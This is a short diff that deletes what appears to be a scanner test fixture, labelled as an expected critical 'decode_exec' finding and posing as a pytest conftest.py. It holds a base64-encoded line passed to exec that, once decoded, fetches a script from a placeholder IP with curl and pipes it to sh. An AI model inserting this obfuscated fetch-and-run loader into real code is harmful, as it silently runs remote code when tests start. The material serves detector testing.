@@ -1,6 +1,0 @@
-# expect: python.decode_exec critical
-# path: conftest.py
-"""module docstring"""
-
-import base64
-exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjExMi94fHNoJyk="))
